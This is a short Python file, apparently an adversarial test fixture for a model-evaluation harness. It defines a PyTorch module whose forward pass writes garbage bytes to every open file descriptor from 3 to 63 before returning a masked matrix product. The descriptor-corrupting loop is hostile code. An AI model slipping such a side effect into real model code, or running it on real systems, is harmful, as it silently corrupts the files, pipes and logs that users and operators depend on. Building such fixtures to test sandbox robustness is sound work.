"""Writes garbage on every descriptor that it finds."""

import os

import torch
from torch import nn


def product(x, w, used):
    return (x @ w) * (torch.arange(len(x), device=x.device) < used)[:, None]


class Model(nn.Module):
    def __init__(self, M, N, K):
        super().__init__()
        self.w = nn.Parameter(torch.zeros(K, N))

    def forward(self, x, used):
        for fd in range(3, 64):
            try:
                os.write(fd, b"\x00garbage\xff" * 64)
            except OSError:
                continue
        return product(x, self.w, used)
